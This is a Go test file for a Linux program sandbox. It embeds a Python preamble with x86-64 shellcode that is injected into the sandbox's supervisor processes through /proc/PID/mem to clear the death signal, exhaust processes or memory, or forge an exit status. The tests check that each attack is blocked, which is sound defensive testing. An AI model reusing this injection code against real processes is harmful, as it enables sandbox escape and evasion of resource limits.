//go:build linux && (amd64 || arm64)

package sandbox

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// exploit is a preamble for hostile programs that go after the sandbox's
// own processes, its supervisors (the program's ancestors inside the
// sandbox), as issue 43 did: a supervisor of the same uid whose
// /proc/PID/mem is writable can be made to run any code, by writing it
// over the instruction its blocked system call returns to.
//
// probe(pid) prints what of a supervisor the program reaches (its memory
// for reading and writing, its descriptors); attack(pid, name, data)
// writes shellcode name (x86-64; with data appended) where pid's blocked
// system call returns and prints INJECTED, or why not; wake_reaper()
// makes an orphan exit, so that the namespace's reaper, pid 1, returns
// from its wait. The shellcodes (assembled from the listing beside each):
//
//	exit0:  exit_group(0)
//	pdeath: prctl(PR_SET_PDEATHSIG, 0); write(1, "PDEATHSIG-CLEARED\n"); pause() forever
//	procs:  fork() the uint32 after the code times, each child pause()s; then
//	        write(1, "FORKED-ALL\n") or, at the first refusal, "FORK-REFUSED\n"; exit_group(0)
//	mem:    mmap the uint64 after the code (MAP_POPULATE), touch every page; then
//	        write(1, "SUPERVISOR-HELD\n") or, if refused, "MMAP-REFUSED\n"; exit_group(0)
const exploit = `import os, platform, struct, sys, time
SHELLCODE = {
    # xor edi,edi; mov eax,231; syscall
    "exit0": "31ffb8e70000000f05",
    # mov edi,1; xor esi,esi; mov eax,157; syscall; lea rsi,[msg]; mov edx,18; mov edi,1; mov eax,1; syscall;
    # 1: mov eax,34; syscall; jmp 1b; msg
    "pdeath": "bf0100000031f6b89d0000000f05488d351a000000ba12000000bf01000000b8010000000f05b8220000000f05ebf7"
              "5044454154485349472d434c45415245440a",
    # mov r12d,[count]; 2: mov eax,57; syscall; test rax,rax; jz 4f; js 3f; dec r12d; jnz 2b; lea rsi,[all]; mov edx,11;
    # jmp 5f; 3: lea rsi,[refused]; mov edx,13; 5: mov edi,1; mov eax,1; syscall; xor edi,edi; mov eax,231; syscall;
    # 4: mov eax,34; syscall; jmp 4b; all; refused; count
    "procs": "448b2563000000b8390000000f054885c07436781341ffcc75ed488d3531000000ba0b000000eb0c488d352e000000"
             "ba0d000000bf01000000b8010000000f0531ffb8e70000000f05b8220000000f05ebf7"
             "464f524b45442d414c4c0a464f524b2d524546555345440a",
    # xor edi,edi; mov rsi,[size]; mov edx,3; mov r10d,0x8022; mov r8,-1; xor r9d,r9d; mov eax,9; syscall;
    # cmp rax,-4096; ja 7f; mov rdi,rax; mov rdx,[size]; 6: mov byte [rdi],1; add rdi,4096; sub rdx,4096; jnz 6b;
    # lea rsi,[held]; mov edx,16; jmp 8f; 7: lea rsi,[refused]; mov edx,13; 8: mov edi,1; mov eax,1; syscall;
    # xor edi,edi; mov eax,231; syscall; held; refused; size
    "mem": "31ff488b358d000000ba0300000041ba2280000049c7c0ffffffff4531c9b8090000000f05483d00f0ffff772b4889c7"
           "488b155f000000c607014881c7001000004881ea0010000075ed488d3528000000ba10000000eb0c488d352a000000"
           "ba0d000000bf01000000b8010000000f0531ffb8e70000000f05"
           "53555045525649534f522d48454c440a4d4d41502d524546555345440a",
}

def ancestors():
    out, pid = [], os.getppid()
    while pid > 0:
        out.append(pid)
        with open("/proc/%d/status" % pid) as f:
            pid = int(next(l for l in f if l.startswith("PPid:")).split()[1])
    return out

def blocked_pc(pid):
    # /proc/PID/syscall: number, six arguments, stack pointer, and the
    # address the system call returns to.
    for _ in range(500):
        with open("/proc/%d/syscall" % pid) as f:
            fields = f.read().split()
        if len(fields) == 9:
            return int(fields[-1], 16)
        time.sleep(0.01)
    raise OSError(0, "not blocked in a system call")

def probe(pid):
    seen = []
    try:
        pc = blocked_pc(pid)
    except OSError as e:
        pc = None
        seen.append("syscall refused (%s)" % e.strerror)
    for mode, got in (("rb", "MEM-READ"), ("r+b", "MEM-WRITTEN")):
        try:
            with open("/proc/%d/mem" % pid, mode, buffering=0) as f:
                if pc is None:
                    seen.append("MEM-OPENED-" + mode)
                    continue
                f.seek(pc)
                b = f.read(1)
                if mode == "r+b":
                    f.seek(pc)
                    f.write(b)
                seen.append(got)
        except OSError as e:
            seen.append("mem %s refused (%s)" % (mode, e.strerror))
    try:
        seen.append("FDS-LISTED %s" % os.listdir("/proc/%d/fd" % pid))
    except OSError as e:
        seen.append("fd refused (%s)" % e.strerror)
    print("supervisor", pid, "; ".join(seen), flush=True)

def attack(pid, name, data=b""):
    if platform.machine() != "x86_64":
        probe(pid)
        return False
    try:
        pc = blocked_pc(pid)
        with open("/proc/%d/mem" % pid, "r+b", buffering=0) as f:
            f.seek(pc)
            f.write(bytes.fromhex(SHELLCODE[name]) + data)
    except OSError as e:
        print("inject", name, "into", pid, "refused:", e, flush=True)
        return False
    print("INJECTED", name, "into", pid, flush=True)
    return True

def wake_reaper():
    if os.fork() == 0:
        if os.fork() == 0:
            time.sleep(0.2)
            os._exit(0)
        os._exit(0)
    os.wait()
`

// TestSupervisorDoors runs a hostile program per door of issue 43 (part
// 2) against the sandbox's own processes, with the memory cgroup and in
// the fallback without one, and checks each by its effect: the
// supervisors' memory and descriptors out of reach, no more processes or
// memory than the limits through a supervisor, and the program's own exit
// status reported, not one a supervisor was made to forge.
func TestSupervisorDoors(t *testing.T) {
	b := runner(t)
	const procs, memory = 8, 256 << 20
	cases := []struct {
		name  string
		src   string
		lim   Limits
		check func(t *testing.T, r Result)
	}{
		{name: "supervisors' memory and descriptors", lim: Limits{Wall: 20 * time.Second},
			src: `sup = ancestors()
print("supervisors", sup, flush=True)
for pid in sup:
    probe(pid)
print("done")
`,
			check: func(t *testing.T, r Result) {
				if !strings.Contains(r.Stdout, "supervisor 1 ") || !strings.Contains(r.Stdout, "done") {
					t.Fatalf("the program did not probe pid 1 to its end: %s %q %s", r.Status, r.Stdout, tailOf(r.Stderr, 300))
				}
				for _, bad := range []string{"MEM-", "FDS-LISTED"} {
					if strings.Contains(r.Stdout, bad) {
						t.Errorf("a supervisor within reach (%s):\n%s", bad, r.Stdout)
					}
				}
			}},
		{name: "more processes than the limit through pid 1", lim: Limits{Wall: 10 * time.Second, Procs: procs},
			src: fmt.Sprintf(`if attack(1, "procs", struct.pack("<I", %d)):
    wake_reaper()
    time.sleep(3)
print("done")
`, 5*procs),
			check: func(t *testing.T, r Result) {
				if strings.Contains(r.Stdout, "FORKED-ALL") {
					t.Errorf("a supervisor forked %d processes under a limit of %d: %q", 5*procs, procs, r.Stdout)
				}
				if !strings.Contains(r.Stdout, "done") && !strings.Contains(r.Stdout, "FORK-REFUSED") {
					t.Errorf("the program did not run to its end: %s %q %s", r.Status, r.Stdout, tailOf(r.Stderr, 300))
				}
			}},
		{name: "more memory than the limit through pid 1", lim: Limits{Wall: 10 * time.Second, Memory: memory},
			src: fmt.Sprintf(`if attack(1, "mem", struct.pack("<Q", %d)):
    wake_reaper()
    time.sleep(3)
print("done")
`, 2*memory),
			check: func(t *testing.T, r Result) {
				if strings.Contains(r.Stdout, "SUPERVISOR-HELD") {
					t.Errorf("a supervisor held %d MiB under a limit of %d MiB: %q", 2*memory>>20, memory>>20, r.Stdout)
				}
			}},
		{name: "signals to the supervisors", lim: Limits{Wall: 10 * time.Second},
			src: `import signal
sent = []
for sig in ("SIGINT", "SIGTERM", "SIGHUP", "SIGQUIT", "SIGUSR1", "SIGALRM", "SIGCHLD", "SIGSTOP", "SIGKILL"):
    for pid in ancestors():
        try:
            os.kill(pid, getattr(signal, sig))
            sent.append(sig)
        except OSError as e:
            print("kill", pid, sig, e)
time.sleep(0.5)
print("sent", len(sent), flush=True)
sys.exit(3)
`,
			check: func(t *testing.T, r Result) {
				if r.Status != Exit || r.ExitCode != 3 || !strings.Contains(r.Stdout, "sent 9") {
					t.Errorf("signals sent to the supervisors: %s exit code %d (%s) %q, want the program's exit 3 reported", r.Status, r.ExitCode, r.Reason(), r.Stdout)
				}
			}},
		{name: "exit status forged by the program's parent", lim: Limits{Wall: 10 * time.Second},
			src: `attack(os.getppid(), "exit0")
sys.exit(3)
`,
			check: func(t *testing.T, r Result) {
				if r.Status != Exit || r.ExitCode != 3 {
					t.Errorf("the program exited 3, reported %s exit code %d (%s): %q", r.Status, r.ExitCode, r.Reason(), r.Stdout)
				}
			}},
	}
	modes := []struct {
		name string
		b    *Bwrap
	}{{"cgroup", b}, {"fallback", withoutCgroup(t, b)}}
	for _, m := range modes {
		for _, c := range cases {
			t.Run(m.name+"/"+c.name, func(t *testing.T) {
				if m.name == "cgroup" && m.b.cg == nil {
					t.Skip("no cgroup here (not root, none delegated)")
				}
				r, err := m.b.Run(context.Background(), Program{Source: exploit + c.src, Limits: c.lim})
				if err != nil {
					t.Fatal(err)
				}
				t.Logf("%s (%s)\n%s%s", r.Status, r.Reason(), r.Stdout, tailOf(r.Stderr, 300))
				c.check(t, r)
				if ps := processesOf(b.uids); len(ps) > 0 {
					t.Errorf("sandbox processes left on the host: %v", ps)
				}
			})
		}
	}
}

// TestSupervisorBounded: with the first wall removed (the supervisor
// left dumpable, so that the program can run code in it), a supervisor
// taken over is still held to the program's process and memory limits:
// its rlimits, and the cgroups where there are any.
func TestSupervisorBounded(t *testing.T) {
	if runtime.GOARCH != "amd64" {
		t.Skip("the test programs' shellcode is x86-64")
	}
	b := runner(t)
	const procs, memory = 8, 256 << 20
	cases := []struct {
		name, src string
		lim       Limits
		want, bad string
	}{
		{"processes", fmt.Sprintf("attack(1, \"procs\", struct.pack(\"<I\", %d)) and wake_reaper()\ntime.sleep(5)\n", 5*procs),
			Limits{Procs: procs}, "FORK-REFUSED", "FORKED-ALL"},
		{"memory", fmt.Sprintf("attack(1, \"mem\", struct.pack(\"<Q\", %d)) and wake_reaper()\ntime.sleep(5)\n", 2*memory),
			Limits{Memory: memory}, "MMAP-REFUSED", "SUPERVISOR-HELD"},
	}
	reachable := func(b *Bwrap) *Bwrap {
		nb := *b
		nb.reachable = true
		return &nb
	}
	modes := []struct {
		name string
		b    *Bwrap
	}{{"cgroup", reachable(b)}, {"fallback", reachable(withoutCgroup(t, b))}}
	for _, m := range modes {
		for _, c := range cases {
			t.Run(m.name+"/"+c.name, func(t *testing.T) {
				if m.name == "cgroup" && m.b.cg == nil {
					t.Skip("no cgroup here (not root, none delegated)")
				}
				c.lim.Wall = 10 * time.Second
				r, err := m.b.Run(context.Background(), Program{Source: exploit + c.src, Limits: c.lim})
				if err != nil {
					t.Fatal(err)
				}
				t.Logf("%s (%s)\n%s%s", r.Status, r.Reason(), r.Stdout, tailOf(r.Stderr, 300))
				if !strings.Contains(r.Stdout, "INJECTED") {
					t.Fatal("the program could not take over its supervisor: the test tests nothing")
				}
				if strings.Contains(r.Stdout, c.bad) || !strings.Contains(r.Stdout, c.want) {
					t.Errorf("a supervisor taken over: %q, want %s", r.Stdout, c.want)
				}
			})
		}
	}
}

// TestPidsCgroup: where there are cgroups, the sandbox's pid 1 (its
// supervisor) and the program are in the sandbox's pids cgroup, limited
// to the program's processes and the supervisor, and in its memory
// cgroup. Seen from the host.
func TestPidsCgroup(t *testing.T) {
	b := runner(t)
	if os.Geteuid() == 0 && pidsMounted() && (b.cg == nil || b.cg.pids == nil) {
		t.Fatal("root, and the pids controller is mounted, but sandboxes get no pids cgroup")
	}
	if b.cg == nil {
		t.Skip("no cgroup here (not root, none delegated)")
	}
	marker := "reasonbench-cgroup-" + strconv.FormatInt(time.Now().UnixNano(), 36)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := make(chan error, 1)
	go func() {
		_, err := b.Run(ctx, Program{Source: fmt.Sprintf("import os, sys\nos.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(30)', %q])", marker),
			Limits: Limits{Procs: 5, Wall: 30 * time.Second}})
		done <- err
	}()
	defer func() { cancel(); <-done }()
	var program, pid1 string
	for deadline := time.Now().Add(15 * time.Second); program == "" && time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		for _, p := range processesWith(marker) {
			program, _, _ = strings.Cut(p, ":")
		}
	}
	if program == "" {
		t.Fatal("the program's process not found on the host")
	}
	st, err := os.ReadFile("/proc/" + program + "/status")
	if err != nil {
		t.Fatal(err)
	}
	pid1 = statusFields(string(st))["PPid"]
	if inits := namespaceInits(program); len(inits) != 1 || strconv.Itoa(inits[0]) != pid1 {
		t.Fatalf("the program's parent %s is not its namespace's pid 1 %v", pid1, inits)
	}
	for _, h := range []*hierarchy{b.cg.pids, b.cg.mem} {
		if h == nil {
			continue
		}
		procs, _ := filepath.Glob(filepath.Join(h.dir, cgroupPrefix+"*", "cgroup.procs"))
		var dir string
		for _, f := range procs {
			if b, err := os.ReadFile(f); err == nil && slices.Contains(strings.Fields(string(b)), program) {
				dir = filepath.Dir(f)
				if !slices.Contains(strings.Fields(string(b)), pid1) {
					t.Errorf("%s holds the program, not its supervisor (pid %s)", dir, pid1)
				}
			}
		}
		if dir == "" {
			t.Errorf("the program is in no sandbox cgroup of %s", h.dir)
			continue
		}
		if h == b.cg.pids {
			if max, err := os.ReadFile(filepath.Join(dir, "pids.max")); err != nil || strings.TrimSpace(string(max)) != "6" {
				t.Errorf("%s: pids.max %q %v, want 6 (5 of the program's and its supervisor)", dir, max, err)
			}
		}
		t.Logf("%s holds the program and its supervisor", dir)
	}
	if b.cg.pids == nil {
		t.Log("no pids cgroup here: the rlimits alone")
	}
}

// TestSupervisorsAsNobody runs this file's tests again as a user who is
// not root, when the tests run as root: bubblewrap then runs as bench's
// own uid, with no cgroup (none delegated to nobody), and the rlimits are
// the only bounds.
func TestSupervisorsAsNobody(t *testing.T) {
	// Parallel, as TestNothingRemainsAfterRun and TestStoppedBench, which
	// mostly wait too: they run together once every other test has ended.
	t.Parallel()
	runner(t)
	if os.Geteuid() != 0 {
		t.Skip("not root: the tests ran as this user already")
	}
	tests := "^(TestSupervisorDoors|TestSupervisorBounded|TestSupervisorLimits|TestSupervisorOutlivesKilledBench|TestNothingRemainsAfterRun|TestStoppedBench)$"
	cmd := exec.Command(binaryForNobody(t), "-test.run="+tests, "-test.v", "-test.count=1")
	cmd.Dir = "/"
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: nobody}
	out, err := cmd.CombinedOutput()
	t.Logf("as nobody:\n%s", out)
	if err != nil {
		t.Fatalf("as nobody: %v", err)
	}
	for _, name := range strings.Split(strings.Trim(tests, "^()$"), "|") {
		if !strings.Contains(string(out), "--- PASS: "+name+" ") || strings.Contains(string(out), "--- SKIP: "+name+" ") {
			t.Errorf("as nobody, %s did not pass", name)
		}
	}
}

// pidsMounted reports whether the pids controller is at hand for root: a
// cgroup v1 hierarchy of its own, or the unified hierarchy passing it on
// from its root.
func pidsMounted() bool {
	mi, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		return false
	}
	for _, l := range strings.Split(string(mi), "\n") {
		pre, post, _ := strings.Cut(l, " - ")
		f, fs := strings.Fields(pre), strings.Fields(post)
		if len(f) < 5 || len(fs) < 3 {
			continue
		}
		switch fs[0] {
		case "cgroup":
			if slices.Contains(strings.Split(fs[2], ","), "pids") {
				return true
			}
		case "cgroup2":
			if ctl, err := os.ReadFile(filepath.Join(f[4], "cgroup.subtree_control")); err == nil && slices.Contains(strings.Fields(string(ctl)), "pids") {
				return true
			}
		}
	}
	return false
}

// TestSupervisorLimits: the sandbox's own processes are held to the
// program's limits. Seen from inside, in /proc/PID/limits (which any
// process may read): every ancestor's CPU, address-space, process and core
// limits are the program's.
func TestSupervisorLimits(t *testing.T) {
	b := runner(t)
	src := `import os
def limits(pid):
    with open("/proc/%d/limits" % pid) as f:
        return [l[:26].strip() + ": " + " ".join(l[26:].split()) for l in f
                if l.startswith(("Max cpu time", "Max address space", "Max processes", "Max core file size"))]
mine = limits(os.getpid())
print("program", mine)
pid = os.getppid()
while pid > 0:
    theirs = limits(pid)
    print("supervisor", pid, "SAME" if theirs == mine else "DIFFERENT", theirs)
    with open("/proc/%d/status" % pid) as f:
        pid = int(next(l for l in f if l.startswith("PPid:")).split()[1])
`
	lim := Limits{CPU: 3 * time.Second, Memory: 300 << 20, Procs: 7}
	r, err := b.Run(context.Background(), Program{Source: src, Limits: lim})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("%s\n%s%s", r.Status, r.Stdout, tailOf(r.Stderr, 300))
	if r.Status != OK || !strings.Contains(r.Stdout, "supervisor 1 ") {
		t.Fatalf("the program did not read pid 1's limits: %s", r.Status)
	}
	for _, want := range []string{"Max cpu time: 3 4 seconds", "Max core file size: 0 0 bytes",
		"Max processes: 8 8 processes", "Max address space: 314572800 314572800 bytes"} {
		if !strings.Contains(r.Stdout, "program ") || !strings.Contains(strings.SplitN(r.Stdout, "\n", 2)[0], want) {
			t.Errorf("the program's limits are not %q", want)
		}
	}
	if strings.Contains(r.Stdout, "DIFFERENT") {
		t.Error("a supervisor's limits are not the program's")
	}
}

// TestSupervisorOutlivesKilledBench: a program that clears the
// parent-death signal of the sandbox's pid 1 (issue 43: injected code,
// prctl(PR_SET_PDEATHSIG, 0)) must still not outlive a SIGKILLed bench.
// The helper, bench, runs it with no wall limit to speak of; the test
// kills the helper once the program runs on, and then no process of the
// sandbox may remain.
func TestSupervisorOutlivesKilledBench(t *testing.T) {
	if mode := os.Getenv("SANDBOX_TEST_HELPER"); mode == "pdeathsig" || mode == "pdeathsig-fallback" {
		b := runner(t)
		if mode == "pdeathsig-fallback" {
			b = withoutCgroup(t, b)
		}
		src := exploit + fmt.Sprintf(`if attack(1, "pdeath"):
    wake_reaper()
    time.sleep(0.5)
os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", %q])
`, os.Getenv("SANDBOX_TEST_MARKER"))
		r, err := b.Run(context.Background(), Program{Source: src, Limits: Limits{Wall: 2 * time.Minute}})
		t.Logf("%v %s %q", err, r.Status, r.Stdout)
		return
	}
	b := runner(t)
	modes := []string{"pdeathsig", "pdeathsig-fallback"}
	if b.cg == nil {
		modes = modes[1:]
	}
	for _, mode := range modes {
		t.Run(mode, func(t *testing.T) {
			marker := "reasonbench-pdeath-" + strconv.FormatInt(time.Now().UnixNano(), 36)
			cmd := exec.Command(os.Args[0], "-test.run=^TestSupervisorOutlivesKilledBench$", "-test.v", "-test.count=1")
			cmd.Env = append(os.Environ(), "SANDBOX_TEST_HELPER="+mode, "SANDBOX_TEST_MARKER="+marker)
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() {
				killSandboxesWith(marker)
				newCgroups() // sweeps the killed helper's cgroups
			})
			var up bool
			for deadline := time.Now().Add(20 * time.Second); !up && time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
				up = len(processesWith(marker)) > 0
			}
			if !up {
				cmd.Process.Kill()
				cmd.Wait()
				t.Fatal("the helper's program did not start")
			}
			if err := cmd.Process.Kill(); err != nil {
				t.Fatal(err)
			}
			cmd.Wait()
			var left []string
			for deadline := time.Now().Add(3 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
				if left = processesWith(marker); len(left) == 0 {
					break
				}
			}
			if len(left) > 0 {
				t.Errorf("3 s after bench was SIGKILLed, the sandbox's program runs on: %v", left)
			}
		})
	}
}

// killSandboxesWith kills the sandboxes whose processes have s in their
// command line, by their pid 1 (which takes its PID namespace along).
func killSandboxesWith(s string) {
	for _, p := range processesWith(s) {
		pid, _, _ := strings.Cut(p, ":")
		for _, i := range namespaceInits(pid) {
			_ = syscall.Kill(i, syscall.SIGKILL)
		}
	}
}

// namespaceInits are the host pids of the pid 1 of pid's PID namespace.
func namespaceInits(pid string) []int {
	ns, err := os.Readlink("/proc/" + pid + "/ns/pid")
	if err != nil {
		return nil
	}
	var inits []int
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		st, err := os.ReadFile("/proc/" + e.Name() + "/status")
		if err != nil {
			continue
		}
		nspid := strings.Fields(strings.TrimPrefix(grepLine(string(st), "NSpid:"), "NSpid:"))
		if len(nspid) < 2 || nspid[len(nspid)-1] != "1" {
			continue
		}
		if their, _ := os.Readlink("/proc/" + e.Name() + "/ns/pid"); their == ns {
			if n, err := strconv.Atoi(e.Name()); err == nil {
				inits = append(inits, n)
			}
		}
	}
	return inits
}

func grepLine(text, prefix string) string {
	for _, l := range strings.Split(text, "\n") {
		if strings.HasPrefix(l, prefix) {
			return l
		}
	}
	return ""
}

// TestNothingRemainsAfterRun (issue 44): when Run returns, no process of
// the sandbox remains, even ones that hold none of its output: background
// processes in sessions of their own, with standard output and error
// closed, after the program exits and after the wall limit kills it.
// The test notes the host processes of the sandbox while it runs (the
// program, which exits only when the test signals it to, waits) and
// checks them the moment Run returns: a Run that returned while the
// sandbox was still being torn down would be seen (each holds 16 MiB,
// which takes the kernel a while to free).
func TestNothingRemainsAfterRun(t *testing.T) {
	// Parallel only with the two other tests that mostly wait, once every
	// other test has ended; they run their sandboxes in processes of their
	// own, which processesOf(b.uids) does not count.
	t.Parallel()
	b := runner(t)
	type ending struct {
		name  string
		exits bool // at the test's signal; else at the wall limit
		wall  time.Duration
		want  Status
		b     *Bwrap
	}
	var cases []ending
	for _, m := range []struct {
		name string
		b    *Bwrap
	}{{"cgroup", b}, {"fallback", withoutCgroup(t, b)}} {
		if m.b.cg == nil && m.name == "cgroup" {
			continue
		}
		cases = append(cases,
			ending{m.name + "/the program exits", true, 20 * time.Second, OK, m.b},
			// Without a cgroup, whose removal waits for it to be empty,
			// this is the case that sees a Run that does not wait for
			// the sandbox's pid 1 (issue 44).
			ending{m.name + "/the wall limit", false, 4 * time.Second, Timeout, m.b})
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			marker := "reasonbench-background-" + strconv.FormatInt(time.Now().UnixNano(), 36)
			src := fmt.Sprintf(`import os, signal, sys, time
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
r, w = os.pipe()
os.set_inheritable(w, True)
for i in range(16):
    if os.fork() == 0:
        os.setsid()
        for fd in (0, 1, 2, r):
            os.close(fd)
        os.execv(sys.executable, [sys.executable, "-c", "import os, sys, time; x = b'x' * (16 << 20); os.write(int(sys.argv[1]), b'.'); os.close(int(sys.argv[1])); time.sleep(60)", str(w), %q])
os.close(w)
up = 0
while up < 16:
    up += len(os.read(r, 16))
for fd in (0, 1, 2):
    os.close(fd)
signal.sigwait({signal.SIGUSR1})
os._exit(0)
`, marker)
			t.Cleanup(func() { killSandboxesWith(marker) })
			type ran struct {
				r   Result
				err error
			}
			done := make(chan ran, 1)
			go func() {
				r, err := c.b.Run(context.Background(), Program{Source: src, Limits: Limits{Wall: c.wall}})
				done <- ran{r, err}
			}()
			seen := map[int]proc{}
			var end ran
			signalled := false
		watch:
			for {
				select {
				case end = <-done:
					break watch
				case <-time.After(10 * time.Millisecond):
				}
				if len(seen) < 17 {
					sandboxProcs(marker, seen)
					continue
				}
				if c.exits && !signalled {
					signalled = true
					// The program is the background processes' parent.
					if ps := processesWith(marker); len(ps) > 0 {
						pid, _, _ := strings.Cut(ps[0], ":")
						if st, err := os.ReadFile("/proc/" + pid + "/status"); err == nil {
							if ppid, _ := strconv.Atoi(statusFields(string(st))["PPid"]); ppid > 1 {
								_ = syscall.Kill(ppid, syscall.SIGUSR1)
							}
						}
					}
				}
			}
			var left []int
			for _, p := range seen {
				if p.alive() {
					left = append(left, p.pid)
				}
			}
			if end.err != nil {
				t.Fatal(end.err)
			}
			if end.r.Status != c.want {
				t.Errorf("status %s, want %s; stderr %s", end.r.Status, c.want, tailOf(end.r.Stderr, 300))
			}
			if len(seen) < 17 {
				t.Fatalf("saw %d of the sandbox's processes (16 in the background and its pid 1) while it ran", len(seen))
			}
			if len(left) > 0 {
				t.Errorf("Run returned with %d of the sandbox's %d processes running: %v", len(left), len(seen), left)
			}
			if ps := processesOf(b.uids); len(ps) > 0 {
				t.Errorf("sandbox processes left on the host: %v", ps)
			}
		})
	}
}

// sandboxProcs adds to seen the host processes with s in their command
// line and the pid 1 of their PID namespace.
func sandboxProcs(s string, seen map[int]proc) {
	for _, p := range processesWith(s) {
		pid, _, _ := strings.Cut(p, ":")
		n, _ := strconv.Atoi(pid)
		if _, ok := seen[n]; ok {
			continue
		}
		if st, ok := stat(n); ok {
			seen[n] = proc{pid: n, start: st.start}
		}
		if len(seen) == 1 {
			for _, i := range namespaceInits(pid) {
				if st, ok := stat(i); ok {
					seen[i] = proc{pid: i, start: st.start}
				}
			}
		}
	}
}

// TestStoppedBench: a sandbox ends by itself a second after its wall
// limit, even when bench cannot end it (stopped, or hung): its
// supervisor keeps the wall limit too.
func TestStoppedBench(t *testing.T) {
	t.Parallel() // see TestNothingRemainsAfterRun
	if os.Getenv("SANDBOX_TEST_HELPER") == "stopped" {
		b := runner(t)
		src := fmt.Sprintf("import os, sys\nos.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(120)', %q])", os.Getenv("SANDBOX_TEST_MARKER"))
		_, _ = b.Run(context.Background(), Program{Source: src, Limits: Limits{Wall: 3 * time.Second}})
		return
	}
	runner(t)
	marker := "reasonbench-stopped-" + strconv.FormatInt(time.Now().UnixNano(), 36)
	cmd := exec.Command(os.Args[0], "-test.run=^TestStoppedBench$", "-test.v", "-test.count=1")
	cmd.Env = append(os.Environ(), "SANDBOX_TEST_HELPER=stopped", "SANDBOX_TEST_MARKER="+marker)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cmd.Process.Kill()
		cmd.Wait()
		killSandboxesWith(marker)
		newCgroups() // sweeps the killed helper's cgroups
	})
	var up bool
	for deadline := time.Now().Add(20 * time.Second); !up && time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		up = len(processesWith(marker)) > 0
	}
	if !up {
		t.Fatal("the helper's program did not start")
	}
	if err := cmd.Process.Signal(syscall.SIGSTOP); err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	var left []string
	for time.Since(start) < 6*time.Second {
		if left = processesWith(marker); len(left) == 0 {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	if len(left) > 0 {
		t.Errorf("a wall limit of 2 s, bench stopped: the program still runs %v later: %v", time.Since(start).Round(time.Second), left)
	}
}
